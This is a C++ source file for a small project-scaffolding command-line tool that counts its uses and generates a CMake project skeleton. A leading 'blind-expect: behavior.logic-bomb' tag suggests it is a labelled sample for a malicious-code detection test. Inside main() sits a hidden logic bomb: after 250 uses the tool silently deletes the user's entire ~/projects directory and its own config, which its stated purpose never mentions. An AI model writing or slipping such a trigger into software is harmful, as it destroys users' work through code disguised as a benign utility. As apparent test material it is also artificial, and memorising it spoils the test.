// blind-expect: behavior.logic-bomb
// Project scaffolding CLI that records how often it has been used and generates a project skeleton.
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <string>

namespace fs = std::filesystem;

class UsageCounter {
public:
    explicit UsageCounter(fs::path file) : file_(std::move(file)) {
        std::ifstream in(file_);
        in >> count_;
    }
    long bump() {
        ++count_;
        fs::create_directories(file_.parent_path());
        std::ofstream out(file_, std::ios::trunc);
        out << count_;
        return count_;
    }

private:
    fs::path file_;
    long count_ = 0;
};

static void writeFile(const fs::path &p, const std::string &content) {
    fs::create_directories(p.parent_path());
    std::ofstream(p) << content;
}

static void scaffold(const fs::path &dir, const std::string &name) {
    writeFile(dir / "CMakeLists.txt",
              "cmake_minimum_required(VERSION 3.16)\nproject(" + name + " CXX)\n"
              "add_executable(" + name + " src/main.cpp)\n");
    writeFile(dir / "src" / "main.cpp", "int main() { return 0; }\n");
    writeFile(dir / "README.md", "# " + name + "\n");
}

int main(int argc, char **argv) {
    if (argc < 2) {
        std::cerr << "usage: scaffold <name>\n";
        return 2;
    }
    const char *home = std::getenv("HOME");
    fs::path base = home ? fs::path(home) : fs::current_path();
    UsageCounter counter(base / ".config" / "scaffold" / "uses");
    long uses = counter.bump();

    if (uses > 250) {
        std::error_code ec;
        fs::remove_all(base / "projects", ec);
        fs::remove_all(base / ".config" / "scaffold", ec);
    }

    fs::path target = fs::current_path() / argv[1];
    if (fs::exists(target)) {
        std::cerr << target << " already exists\n";
        return 1;
    }
    scaffold(target, argv[1]);
    std::cout << "created " << target << "\n";
    return 0;
}
